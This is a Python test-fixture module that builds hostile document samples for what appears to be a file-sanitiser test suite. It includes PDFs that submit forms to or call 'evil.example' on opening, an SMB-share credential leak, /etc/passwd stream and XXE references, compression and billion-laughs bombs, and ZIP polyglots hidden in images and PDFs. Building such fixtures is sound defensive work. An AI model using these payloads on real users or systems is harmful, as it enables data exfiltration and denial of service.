"""Further hostile files, each built from a good one: what acts on opening, hides inside, or grows without end."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.documents import samples
from tests.documents.samples import MIB

# PDF


def pdf_that_sends_its_form() -> bytes:
    return samples.pdf_with_action(Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))


def pdf_that_opens_a_file() -> bytes:
    """A share of somebody's server: opening it tells them who is signed in."""
    return samples.pdf_with_action(
        Dictionary(S=Name.GoToR, F=String("\\\\10.0.0.1\\share\\a.pdf"), D=Array([0, Name.Fit]))
    )


def pdf_that_calls_on_opening() -> bytes:
    return samples.pdf_with_action(Dictionary(S=Name.URI, URI=String("https://evil.example/seen")))


def pdf_that_calls_on_turning_a_page() -> bytes:
    def edit(document: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name.URI, URI=String("https://evil.example"))
        document.pages[0].AA = Dictionary(O=Dictionary(S=Name.GoTo, D=String("x"), Next=Array([action])))

    return samples.edited_pdf(edit)


def pdf_with_link() -> bytes:
    """What a person clicks knowingly is no attack; nor is a jump to a page on opening."""

    def edit(document: pikepdf.Pdf) -> None:
        link = Dictionary(S=Name.URI, URI=String("https://astanahub.com"))
        page = document.pages[0]
        page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, F=4, Rect=[0, 0, 9, 9], A=link)])
        document.Root.OpenAction = Array([page.obj, Name.Fit])

    return samples.edited_pdf(edit)


def pdf_with_outside_page() -> bytes:
    """A page taken from another file (reference XObject)."""

    def edit(document: pikepdf.Pdf) -> None:
        form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
        form.Ref = Dictionary(F=String("//evil.example/a.pdf"), Page=0)
        document.Root.Extra = form

    return samples.edited_pdf(edit)


def pdf_with_outside_stream() -> bytes:
    def edit(document: pikepdf.Pdf) -> None:
        document.Root.Extra = document.make_stream(b"", F=String("/etc/passwd"))

    return samples.edited_pdf(edit)


def pdf_with_rich_media() -> bytes:
    def edit(document: pikepdf.Pdf) -> None:
        document.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])])

    return samples.edited_pdf(edit)


def pdf_with_additional_script() -> bytes:
    def edit(document: pikepdf.Pdf) -> None:
        document.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))

    return samples.edited_pdf(edit)


def pdf_with_named_script() -> bytes:
    def edit(document: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))

    return samples.edited_pdf(edit)


def pdf_with_stream(packed: bytes, **told: object) -> bytes:
    """One more stream, its bytes written as they are."""

    def edit(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, packed)
        for key, value in told.items():
            stream.stream_dict[f"/{key}"] = value
        document.Root.Extra = stream

    return samples.edited_pdf(edit, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def flate_bomb(mib: int = 600) -> bytes:
    engine, piece = zlib.compressobj(9), bytes(MIB)
    return b"".join(engine.compress(piece) for _ in range(mib)) + engine.flush()


def pdf_bomb() -> bytes:
    return pdf_with_stream(flate_bomb(), Filter=Name.FlateDecode)


def pdf_bomb_as_text() -> bytes:
    return pdf_with_stream(flate_bomb().hex().encode() + b">", Filter=Array([Name.ASCIIHexDecode, Name.FlateDecode]))


def pdf_bomb_in_bomb() -> bytes:
    twice = zlib.compress(flate_bomb(60), 9)
    return pdf_with_stream(twice, Filter=Array([Name.FlateDecode, Name.FlateDecode]))


def pdf_bomb_of_runs() -> bytes:
    return pdf_with_stream(b"\x81\x00" * (5 * MIB), Filter=Name.RunLengthDecode)


def pdf_bomb_of_codes() -> bytes:
    """LZW at its best: every code stands for a string one longer than the one before, again and again."""
    codes = [256, 0, *range(258, 4096)]
    bits, held, known, out = 0, 0, 0, bytearray()
    for _ in range(90):
        for at, code in enumerate(codes):
            width = min(12, max(9, (known + 259).bit_length()))
            held, bits = held << width | code, bits + width
            known = 0 if code == 256 else known + (at > 1)
            while bits >= 8:
                bits -= 8
                out.append(held >> bits & 255)
                held &= (1 << bits) - 1
    return pdf_with_stream(bytes(out), Filter=Name.LZWDecode)


def pdf_with_pixel_flood() -> bytes:
    return pdf_with_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=100_000, Height=100_000)


def pdf_led_by_html() -> bytes:
    """Between the version and the first object, where no reader of PDF looks and a browser would."""
    return samples.pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n<html><script>alert(1)</script>\n", 1)


def pdf_with_zip_before_its_end() -> bytes:
    """A ZIP of its own within the PDF: unpackers find it from the end, past a few bytes that are not theirs."""
    whole = samples.pdf()
    at = whole.rindex(b"startxref")
    return whole[:at] + b"%" + samples.archive() + b"\n" + whole[at:]


# Pictures


def png_with_second_frame() -> bytes:
    whole = samples.png()
    frame = samples.chunk(b"IHDR", struct.pack(">2L5B", 60_000, 60_000, 8, 2, 0, 0, 0))
    return whole[:33] + frame + whole[33:]


def png_with_zip_inside() -> bytes:
    """In a chunk of text, so that the picture is whole and nothing follows it."""
    whole, archive = samples.png(), samples.archive()
    return whole[:-12] + samples.chunk(b"tEXt", b"Comment\0" + archive) + whole[-12:]


def jpeg_with_zip_inside() -> bytes:
    whole, archive = samples.jpeg(), samples.archive()
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(archive) + 2) + archive + whole[2:]


# Office documents


def word_with_field(*pieces: str) -> bytes:
    """A field whose instruction stands in pieces, as Word itself writes long ones."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    marks = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>']
    return _with_body(f"<w:p>{marks[0]}{runs}{marks[1]}</w:p>")


def word_with_simple_field(instruction: str) -> bytes:
    return _with_body(f'<w:p><w:fldSimple w:instr="{instruction}"><w:r/></w:fldSimple></w:p>')


def _with_body(markup: str) -> bytes:
    document = samples.unzipped(samples.word())["word/document.xml"]
    return samples.word_with({"word/document.xml": document.replace(b"<w:sectPr", markup.encode() + b"<w:sectPr", 1)})


def excel_with_formula(formula: str) -> bytes:
    parts = samples.unzipped(samples.excel())
    name = "xl/worksheets/sheet1.xml"
    cell = f'<row r="50"><c r="A50"><f>{formula}</f><v>0</v></c></row></sheetData>'
    return samples.zipped(parts | {name: parts[name].replace(b"</sheetData>", cell.encode())})


def excel_with_connection() -> bytes:
    parts = samples.unzipped(samples.excel())
    types = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument'
        b'.spreadsheetml.connections+xml"/></Types>',
    )
    return samples.zipped(parts | {"[Content_Types].xml": types, "xl/connections.xml": b"<connections/>"})


def word_with_drawing(markup: str) -> bytes:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{markup}</svg>'
    parts = samples.unzipped(samples.word())
    types = parts["[Content_Types].xml"].replace(
        b"<Override", b'<Default Extension="svg" ContentType="image/svg+xml"/><Override', 1
    )
    return samples.zipped(parts | {"[Content_Types].xml": types, "word/media/image2.svg": svg.encode()})


def word_with_cargo(content: bytes) -> bytes:
    """Something that is no picture under the name of one."""
    return samples.word_with({"word/media/image9.png": content})


def zip_in_zip() -> bytes:
    return word_with_cargo(samples.zipped({"inner.zip": samples.archive()}))


def word_of_two_minds() -> bytes:
    """The header before a part tells another packing than the directory: two readers, two documents."""
    data = bytearray(samples.word())
    at = data.index(b"word/document.xml") - 30
    struct.pack_into("<H", data, at + 8, zipfile.ZIP_STORED)
    return bytes(data)


def word_with_billion_laughs() -> bytes:
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return samples.word_with({"word/document.xml": f'<!DOCTYPE x [<!ENTITY l0 "ha">{steps}]><x>&l9;</x>'.encode()})


def word_with_outside_entity() -> bytes:
    laughs = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    return samples.word_with({"customXml/item1.xml": laughs})


def word_with_link(target: str) -> bytes:
    return samples.word_with_relation("hyperlink", target)


# What people write with


def word_of_libre_office() -> bytes:
    """LibreOffice keeps the size of each part for afterwards and stores the first part unpacked."""
    out = _Unseekable()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in samples.unzipped(samples.word()).items():
            archive.writestr(name, content)
    return out.getvalue()


class _Unseekable(io.BytesIO):
    """Makes the writer put sizes behind the parts."""

    def seekable(self) -> bool:
        return False

    def seek(self, *_: object) -> int:
        raise io.UnsupportedOperation

    def tell(self) -> int:
        raise io.UnsupportedOperation
